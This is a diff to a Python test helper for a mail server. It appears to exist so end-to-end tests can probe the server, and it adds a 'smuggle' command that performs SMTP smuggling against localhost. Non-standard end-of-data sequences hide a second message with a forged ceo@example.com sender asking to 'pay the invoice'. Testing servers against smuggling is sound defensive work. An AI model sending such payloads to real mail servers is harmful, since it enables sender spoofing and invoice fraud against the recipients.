@@ -8,6 +8,7 @@ Clients connect from loopback addresses outside the host's mynetworks
     smtp_probe.py submit LOGIN PASSWORD SENDER RECIPIENT [--count N] [--gtube] [--source IP]
     smtp_probe.py harvest SOURCE COUNT
     smtp_probe.py imap LOGIN PASSWORD SOURCE
+    smtp_probe.py smuggle FORM RECIPIENT SOURCE
 """
 
 from __future__ import annotations
@@ -81,8 +82,61 @@ def harvest(args: argparse.Namespace) -> dict[str, object]:
     return {"answers": codes}
 
 
-class _ImapFrom(imaplib.IMAP4_SSL):
-    """IMAP over TLS (993) from a chosen loopback address."""
+SMUGGLING = {
+    "LF.LF": b"\n.\n",
+    "LF.CRLF": b"\n.\r\n",
+    "CRLF.LF": b"\r\n.\n",
+    "CR.CRLF": b"\r.\r\n",
+}
+"""End-of-data sequences some servers accept instead of <CR><LF>.<CR><LF> (SMTP
+smuggling, SEC Consult 2023); the e2e tests send these and more."""
+
+
+def smuggle(args: argparse.Namespace) -> dict[str, object]:
+    """One DATA from an outside client that hides a second message, with a forged
+    sender, behind a non-standard end of data. Prints the markers of both."""
+    first, second = f"first-{time.time_ns()}", f"second-{time.time_ns()}"
+    session = socket.create_connection(
+        ("127.0.0.1", 25), timeout=30, source_address=(args.source, 0)
+    )
+    replies = session.makefile("rb")
+
+    def reply() -> list[object]:
+        lines = []
+        while True:
+            line = replies.readline().decode(errors="replace").rstrip("\r\n")
+            lines.append(line)
+            if len(line) < 4 or line[3] != "-":
+                return [int(line[:3] or 0), "\n".join(lines)]
+
+    def command(line: str) -> list[object]:
+        session.sendall(line.encode() + b"\r\n")
+        return reply()
+
+    answers = [reply(), command("EHLO mx.remote.test"), command("MAIL FROM:<someone@remote.test>")]
+    answers += [command(f"RCPT TO:<{args.recipient}>"), command("DATA")]
+    headers = (
+        f"From: someone@remote.test\r\nTo: {args.recipient}\r\nSubject: {first}\r\n"
+        f"Message-ID: <{first}@remote.test>\r\n"
+        f"Date: {time.strftime('%a, %d %b %Y %H:%M:%S +0000', time.gmtime())}\r\n"
+    )
+    session.sendall(
+        f"{headers}\r\nfirst\r\n".encode()
+        + SMUGGLING[args.form]
+        + (
+            f"MAIL FROM:<ceo@example.com>\r\nRCPT TO:<{args.recipient}>\r\nDATA\r\n"
+            f"From: ceo@example.com\r\nSubject: {second}\r\n\r\npay the invoice\r\n"
+        ).encode()
+        + b"\r\n.\r\n"
+    )
+    answers.append(reply())
+    command("QUIT")
+    session.close()
+    return {"answers": answers, "first": first, "second": second}
+
+
+class ImapFrom(imaplib.IMAP4_SSL):
+    """IMAP over TLS (993) from a chosen loopback address (the e2e tests use it too)."""
 
     def __init__(self, source: str) -> None:
         self.source = source
@@ -101,7 +155,7 @@ class _ImapFrom(imaplib.IMAP4_SSL):
 
 def imap(args: argparse.Namespace) -> dict[str, object]:
     try:
-        with _ImapFrom(args.source) as client:
+        with ImapFrom(args.source) as client:
             client.login(args.login, args.password)
             client.logout()
     except imaplib.IMAP4.error as error:
@@ -129,8 +183,13 @@ def main() -> None:
     login.add_argument("login")
     login.add_argument("password")
     login.add_argument("source")
+    smuggled = commands.add_parser("smuggle")
+    smuggled.add_argument("form", choices=sorted(SMUGGLING))
+    smuggled.add_argument("recipient")
+    smuggled.add_argument("source")
     args = parser.parse_args()
-    result = {"submit": submit, "harvest": harvest, "imap": imap}[args.command](args)
+    run = {"submit": submit, "harvest": harvest, "imap": imap, "smuggle": smuggle}
+    result = run[args.command](args)
     print(json.dumps(result))
 
 
